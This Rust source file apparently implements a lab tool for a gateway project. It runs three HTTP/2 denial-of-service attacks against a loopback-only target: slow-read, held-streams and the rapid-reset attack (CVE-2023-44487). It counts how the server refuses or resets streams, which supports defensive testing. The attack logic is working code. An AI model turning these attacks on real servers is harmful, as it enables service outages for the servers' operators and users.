//! `tailguard h2-attack`: the two HTTP/2 resource attacks of issue 45, for the lab
//! (`lab/h2-attacks.sh`), against a loopback address only.
//!
//! - `slow-read`: each connection opens `--streams` GETs of `--path` (a large answer) and
//!   never reads their bodies, so neither its stream windows nor its connection window
//!   opens past the default 65,535 bytes;
//! - `held-streams`: each connection opens `--streams` POSTs whose HEADERS come without
//!   END_STREAM and whose body never follows;
//! - `rapid-reset` (CVE-2023-44487): each connection opens GETs and cancels each at once
//!   (RST_STREAM CANCEL), as fast as it can, `--streams` at most in flight.
//!
//! A connection the server closes is opened again until the end; a stream refused or
//! answered is counted, not opened again (a flood of new streams is another attack). The
//! sockets are bound to
//! `--source` (default 127.0.0.2), so a per-client-address limit tells the attacker from a
//! legitimate client on 127.0.0.1.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use bytes::Bytes;
use tokio::net::TcpSocket;
use tokio::time::Instant;

/// Which attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Kind {
    /// Large answers whose bodies are never read.
    SlowRead,
    /// Requests whose bodies never come.
    HeldStreams,
    /// Streams opened and cancelled at once, in a loop.
    RapidReset,
}

/// Arguments of `tailguard h2-attack`.
#[derive(Debug, clap::Args)]
pub struct AttackArgs {
    /// The attack.
    #[arg(long, value_enum)]
    pub kind: Kind,
    /// The gateway's address (h2c with prior knowledge); loopback only.
    #[arg(long)]
    pub target: SocketAddr,
    /// The local address the attack's sockets are bound to (loopback only).
    #[arg(long, default_value = "127.0.0.2")]
    pub source: IpAddr,
    /// Connections at once.
    #[arg(long, default_value_t = 10)]
    pub connections: usize,
    /// Streams per connection.
    #[arg(long, default_value_t = 100)]
    pub streams: usize,
    /// Request path.
    #[arg(long, default_value = "/big")]
    pub path: String,
    /// How long the attack lasts, seconds.
    #[arg(long, default_value_t = 10)]
    pub seconds: u64,
}

/// What the attack saw.
#[derive(Debug, Default)]
pub struct Counts {
    /// Connections opened.
    pub connections: AtomicU64,
    /// Streams opened.
    pub streams: AtomicU64,
    /// Streams answered (a response head).
    pub answered: AtomicU64,
    /// Streams refused with `REFUSED_STREAM`.
    pub refused: AtomicU64,
    /// Streams reset otherwise (or their connection lost).
    pub reset: AtomicU64,
}

/// Runs the attack until its time is up, prints what it saw and returns it.
pub fn attack(args: &AttackArgs) -> anyhow::Result<Arc<Counts>> {
    anyhow::ensure!(
        args.target.ip().is_loopback() && args.source.is_loopback(),
        "h2-attack sends to and from loopback addresses only"
    );
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    let counts = Arc::new(Counts::default());
    let end = Instant::now() + Duration::from_secs(args.seconds);
    rt.block_on(async {
        let tasks: Vec<_> = (0..args.connections)
            .map(|_| {
                let counts = Arc::clone(&counts);
                let (kind, target, source) = (args.kind, args.target, args.source);
                let (streams, path) = (args.streams, args.path.clone());
                tokio::spawn(async move {
                    while Instant::now() < end {
                        let _ = tokio::time::timeout_at(
                            end,
                            connection(kind, target, source, streams, &path, &counts),
                        )
                        .await;
                    }
                })
            })
            .collect();
        for t in tasks {
            let _ = t.await;
        }
    });
    let c = |a: &AtomicU64| a.load(Ordering::Relaxed);
    println!(
        "h2-attack {:?}: {} connections opened, {} streams, {} answered, {} refused \
         (REFUSED_STREAM), {} reset otherwise",
        args.kind,
        c(&counts.connections),
        c(&counts.streams),
        c(&counts.answered),
        c(&counts.refused),
        c(&counts.reset)
    );
    Ok(counts)
}

/// One attacking connection, until the server closes it (or the caller's time is up).
async fn connection(
    kind: Kind,
    target: SocketAddr,
    source: IpAddr,
    streams: usize,
    path: &str,
    counts: &Arc<Counts>,
) -> anyhow::Result<()> {
    let socket = if target.is_ipv4() {
        TcpSocket::new_v4()?
    } else {
        TcpSocket::new_v6()?
    };
    socket.bind(SocketAddr::new(source, 0))?;
    let tcp = socket.connect(target).await?;
    counts.connections.fetch_add(1, Ordering::Relaxed);
    let (mut send, conn) = h2::client::Builder::new()
        .initial_window_size(65_535)
        .handshake::<_, Bytes>(tcp)
        .await?;
    let driver = tokio::spawn(conn);
    if kind == Kind::RapidReset {
        loop {
            send = send.ready().await?;
            let req = http::Request::get(format!("http://{target}{path}")).body(())?;
            let (_response, mut stream) = send.send_request(req, true)?;
            stream.send_reset(h2::Reason::CANCEL);
            counts.streams.fetch_add(1, Ordering::Relaxed);
            if driver.is_finished() {
                return Ok(());
            }
            // Lets the driver write and read between streams.
            tokio::task::yield_now().await;
        }
    }
    // What the attack holds: request bodies never sent, response bodies never read.
    let mut held = Vec::new();
    for _ in 0..streams {
        send = send.ready().await?;
        let (method, end_of_stream) = match kind {
            Kind::SlowRead | Kind::RapidReset => (http::Method::GET, true),
            Kind::HeldStreams => (http::Method::POST, false),
        };
        let req = http::Request::builder()
            .method(method)
            .uri(format!("http://{target}{path}"))
            .body(())?;
        let (response, body) = send.send_request(req, end_of_stream)?;
        held.push(body);
        counts.streams.fetch_add(1, Ordering::Relaxed);
        let counts = Arc::clone(counts);
        tokio::spawn(async move {
            match response.await {
                Ok(resp) => {
                    counts.answered.fetch_add(1, Ordering::Relaxed);
                    if kind == Kind::SlowRead {
                        // Held, never read: its window never opens.
                        let _unread = resp.into_body();
                        std::future::pending::<()>().await;
                    }
                }
                Err(e) if e.reason() == Some(h2::Reason::REFUSED_STREAM) => {
                    counts.refused.fetch_add(1, Ordering::Relaxed);
                }
                Err(_) => {
                    counts.reset.fetch_add(1, Ordering::Relaxed);
                }
            }
        });
    }
    // Held until the server closes the connection (then the caller opens another).
    let _ = driver.await;
    Ok(())
}
